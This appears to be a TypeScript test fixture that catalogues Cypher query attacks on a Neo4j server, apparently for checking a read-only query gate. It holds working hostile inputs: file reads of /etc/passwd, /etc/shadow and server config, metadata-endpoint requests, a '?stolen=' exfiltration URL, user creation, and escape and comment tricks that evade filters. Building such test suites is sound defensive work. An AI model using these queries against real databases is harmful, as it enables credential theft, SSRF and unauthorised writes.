/**
 * Attacks on a Neo4j server by way of a query, by class. `without` says what the server makes of one that meets no
 * gate, with the rights that a reader may well have: `runs` (it does it), `writes` (it does it in a session that may
 * write), `asks` (it fetches the address), `opens` (it opens the file, or tries to), `lacks` (this edition, or a server
 * without plug-ins, has no such thing; others do). `{http}` stands for an address on loopback that counts who comes.
 */
export interface Attack {
  cypher: string;
  without: "runs" | "writes" | "asks" | "opens" | "lacks";
  params?: Readonly<Record<string, unknown>>;
}

const of =
  (without: Attack["without"]) =>
  (cypher: string, params?: Attack["params"]): Attack => ({
    cypher,
    without,
    ...(params === undefined ? {} : { params }),
  });
const runs = of("runs");
const writes = of("writes");
const asks = of("asks");
const opens = of("opens");
const lacks = of("lacks");

export const ATTACKS: Readonly<Record<string, readonly Attack[]>> = {
  "reading files of the server": [
    opens("LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line"),
    opens("LOAD CSV WITH HEADERS FROM 'file:///../conf/neo4j.conf' AS line RETURN line"),
    opens("LOAD CSV FROM $url AS line RETURN line", { url: "file:///etc/shadow" }),
    opens("UNWIND ['file:///x'] AS u LOAD CSV FROM u AS line RETURN line"),
    opens("LOAD CSV FROM 'file:///x' AS line FIELDTERMINATOR ';' RETURN line"),
    opens("WITH 1 AS x LOAD CSV FROM 'file:///x' AS line RETURN line"),
  ],
  "reaching the network": [
    asks("LOAD CSV FROM '{http}/latest/meta-data' AS line RETURN line"),
    asks("LOAD CSV FROM $url AS line RETURN line", { url: "{http}/parameter" }),
    asks("WITH '{http}/' + 'joined' AS u LOAD CSV FROM u AS line RETURN line"),
    asks("CALL { LOAD CSV FROM '{http}/inside' AS line RETURN line } RETURN line"),
    asks("UNWIND ['a'] AS secret LOAD CSV FROM '{http}/?stolen=' + secret AS line RETURN line"),
    asks("LOAD/* */CSV FROM '{http}/commented' AS line RETURN line"),
    asks("lOaD cSv fRoM '{http}/case' aS line rEtUrN line"),
  ],
  "writing to the graph": [
    writes("CREATE (n:Attack) RETURN n"),
    writes("MERGE (n:Attack {id: 1}) RETURN n"),
    writes("INSERT (n:Attack {id: 1})"),
    writes("MATCH (n:Attack) SET n.name = 'x'"),
    writes("MATCH (n:Attack) REMOVE n.name"),
    writes("MATCH (n:Attack) DELETE n"),
    writes("MATCH (n:Attack) DETACH DELETE n"),
    writes("MATCH (n:Attack) NODETACH DELETE n"),
    writes("FOREACH (x IN [1] | CREATE (:Attack))"),
    writes("MATCH (a:Attack) WITH a CREATE (a)-[:X]->(:Attack)"),
  ],
  "writing inside a subquery": [
    writes("CALL { CREATE (n:Attack) RETURN n } RETURN n"),
    writes("UNWIND [1, 2] AS x CALL (x) { MERGE (n:Attack {id: x}) RETURN n } RETURN n"),
    writes("UNWIND [1] AS x CALL { WITH x CREATE (:Attack {id: x}) } RETURN x"),
    writes("OPTIONAL CALL { CREATE (n:Attack) RETURN n } RETURN n"),
    lacks("RETURN COUNT { CREATE (n:Attack) RETURN n }"),
    lacks("MATCH (a:Attack) WHERE EXISTS { SET a.x = 1 } RETURN a"),
  ],
  "transactions of their own": [
    runs("UNWIND [1] AS x CALL { WITH x RETURN x AS y } IN TRANSACTIONS RETURN y"),
    runs("UNWIND [1] AS x CALL (x) { RETURN x AS y } IN 2 CONCURRENT TRANSACTIONS OF 1 ROW RETURN y"),
    runs("UNWIND [1] AS x CALL (x) { RETURN x AS y } IN TRANSACTIONS OF 1 ROWS ON ERROR CONTINUE RETURN y"),
    lacks("USING PERIODIC COMMIT LOAD CSV FROM 'file:///x' AS line RETURN line"),
    lacks("BEGIN RETURN 1"),
    lacks("COMMIT"),
  ],
  "changing the schema": [
    writes("CREATE INDEX attack IF NOT EXISTS FOR (n:Attack) ON (n.x)"),
    writes("DROP INDEX attack IF EXISTS"),
    writes("CREATE CONSTRAINT attack IF NOT EXISTS FOR (n:Attack) REQUIRE n.y IS UNIQUE"),
    writes("DROP CONSTRAINT attack IF EXISTS"),
    writes("CREATE FULLTEXT INDEX attack_text IF NOT EXISTS FOR (n:Attack) ON EACH [n.x]"),
    writes("DROP INDEX attack_text IF EXISTS"),
  ],
  "procedures that write": [
    writes("CALL db.createLabel('Attack')"),
    writes("CALL db.createRelationshipType('ATTACK')"),
    writes("CALL db.createProperty('attack')"),
    runs("CALL db.clearQueryCaches() YIELD value RETURN value"),
    runs("CALL db.prepareForReplanning(1)"),
    runs("CALL tx.setMetaData({a: 1})"),
    runs("CALL db.resampleOutdatedIndexes()"),
    lacks("CALL db.create.setNodeVectorProperty(null, 'x', [1.0])"),
  ],
  "procedures that read the server": [
    runs("CALL dbms.listConfig() YIELD name, value RETURN name, value"),
    runs("CALL dbms.components() YIELD name RETURN name"),
    runs("CALL dbms.info() YIELD id RETURN id"),
    runs("CALL db.info() YIELD id RETURN id"),
    runs("CALL dbms.queryJmx('java.lang:*') YIELD name RETURN name"),
    runs("CALL dbms.listConnections() YIELD connectionId, clientAddress RETURN clientAddress"),
    runs("CALL dbms.showCurrentUser() YIELD username RETURN username"),
    runs("CALL db.stats.retrieve('GRAPH COUNTS') YIELD data RETURN data"),
    runs("CALL dbms.listCapabilities() YIELD name RETURN name"),
    runs("CALL `dbms`.`listConfig`() YIELD name RETURN name"),
  ],
  "plug-ins": [
    lacks("CALL apoc.load.json('http://127.0.0.1/') YIELD value RETURN value"),
    lacks("CALL apoc.cypher.runWrite('CREATE (n)', {}) YIELD value RETURN value"),
    lacks("CALL apoc.export.csv.all('out.csv', {})"),
    lacks("CALL apoc.periodic.commit('MATCH (n) DELETE n', {})"),
    lacks("RETURN apoc.util.sleep(10)"),
    lacks("RETURN `apoc`.`load`.`json`('x')"),
    lacks("CALL gds.graph.project('g', '*', '*')"),
  ],
  administration: [
    runs("SHOW DATABASES"),
    runs("SHOW PROCEDURES"),
    runs("SHOW FUNCTIONS YIELD name"),
    runs("SHOW SETTINGS YIELD name, value"),
    runs("SHOW TRANSACTIONS"),
    runs("SHOW INDEXES"),
    runs("SHOW USERS"),
    runs("SHOW CURRENT USER"),
    runs("TERMINATE TRANSACTIONS 'neo4j-transaction-1'"),
    writes("CREATE USER attack_user IF NOT EXISTS SET PASSWORD 'long-enough' CHANGE NOT REQUIRED"),
    writes("ALTER USER attack_user SET PASSWORD 'long-enough-2'"),
    writes("DROP USER attack_user IF EXISTS"),
    lacks("CREATE DATABASE attack"),
    lacks("STOP DATABASE neo4j"),
    lacks("GRANT ROLE admin TO attack_user"),
  ],
  "another database": [
    runs("USE neo4j MATCH (n:Attack) RETURN n"),
    lacks("USE system SHOW USERS"),
    lacks("USE graph.byName('system') MATCH (n) RETURN n"),
    lacks(":use system"),
  ],
  "two statements": [
    lacks("RETURN 1; RETURN 2"),
    lacks("RETURN 1; CREATE (n:Attack)"),
    lacks("RETURN 1; // quiet\nMATCH (n:Attack) DELETE n"),
    lacks("; RETURN 1; ;"),
  ],
  "running under another name": [
    runs("EXPLAIN CREATE (n:Attack)"),
    writes("PROFILE CREATE (n:Attack)"),
    writes("CYPHER runtime=slotted CREATE (n:Attack)"),
    writes("CYPHER 5 CREATE (n:Attack)"),
    writes("CYPHER planner=cost PROFILE MERGE (n:Attack)"),
  ],
  "escapes, comments and odd letters": [
    writes("CR\\u0045ATE (n:Attack)"),
    writes("RETURN 1 AS x //\\u000aUNION CREATE (n:Attack) RETURN 1 AS x"),
    writes("WITH '\\u0027 AS x CREATE (n:Attack) RETURN n //'"),
    writes("WITH 1 AS x /* \\u002a\\u002f CREATE (n:Attack) RETURN x /* */"),
    writes("CREATE\u00a0(n:Attack)"),
    writes("CREATE\u2028(n:Attack)"),
    writes("WITH 1 AS x // quiet\rCREATE (n:Attack)"),
    writes("WITH 1 AS `//` CREATE (n:Attack)"),
    lacks("CRE\u200bATE (n:Attack)"),
  ],
  parameters: [
    runs("MATCH (n:$($label)) RETURN n", { label: "Attack" }),
    writes("CREATE (n:$($label))", { label: "Attack" }),
    writes("MATCH (n:Attack) SET n[$name] = 1", { name: "id" }),
    writes("CREATE (n:Attack $props)", { props: { id: 1 } }),
    lacks("CALL $procedure()", { procedure: "dbms.listConfig" }),
  ],
  "walks without an end": [
    runs("MATCH p = (a:Attack)-[*]-(b) RETURN p"),
    runs("MATCH p = (a:Attack)-[*1..]->(b) RETURN p"),
    runs("MATCH p = (a:Attack)--+(b) RETURN p"),
    runs("MATCH p = (a:Attack)((x)-->(y))*(b) RETURN p"),
    runs("MATCH p = SHORTEST 5 (a:Attack)-->{1,}(b) RETURN p"),
  ],
};
